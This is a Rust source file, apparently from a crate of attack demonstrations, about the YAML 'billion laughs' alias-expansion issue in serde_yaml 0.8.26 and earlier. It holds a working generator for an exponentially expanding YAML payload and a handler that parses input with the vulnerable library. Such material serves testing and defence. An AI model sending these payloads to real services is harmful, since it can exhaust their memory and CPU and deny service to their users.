//! "Billion laughs" in YAML: anchors and aliases that expand exponentially.
//!
//! **Crate:** serde_yaml 0.8.26 and earlier; 0.9 limits alias expansion
//! (serde-yaml PR #277). **Issue:** each alias is replayed in full wherever it
//! appears, so a few hundred bytes describe billions of nodes. **Growth:**
//! O(9^n) in the number of levels n, in time and in the memory of the
//! resulting `Value`.

use std::fmt::Write as _;

use crate::AttackError;

/// `a0: &a0 ~`, then for each level k in 1..=n a line
/// `ak: &ak [*a(k-1), ...]` with nine aliases of the level below.
pub fn payload(n: usize) -> Vec<u8> {
    let mut out = String::from("a0: &a0 ~\n");
    for k in 1..=n {
        let prev = k - 1;
        let aliases = vec![format!("*a{prev}"); 9].join(", ");
        writeln!(out, "a{k}: &a{k} [{aliases}]").expect("writing to a String cannot fail");
    }
    out.into_bytes()
}

/// Parses the body into a `serde_yaml::Value` and reports its top-level shape.
pub fn handle(body: &[u8]) -> Result<String, AttackError> {
    let value: serde_yaml::Value = serde_yaml::from_slice(body)
        .map_err(|e| AttackError::with_source("yaml-aliases", "invalid YAML", e))?;
    Ok(match &value {
        serde_yaml::Value::Mapping(map) => format!("parsed a mapping of {} keys", map.len()),
        serde_yaml::Value::Sequence(seq) => format!("parsed a sequence of {} items", seq.len()),
        _ => "parsed a scalar".to_owned(),
    })
}
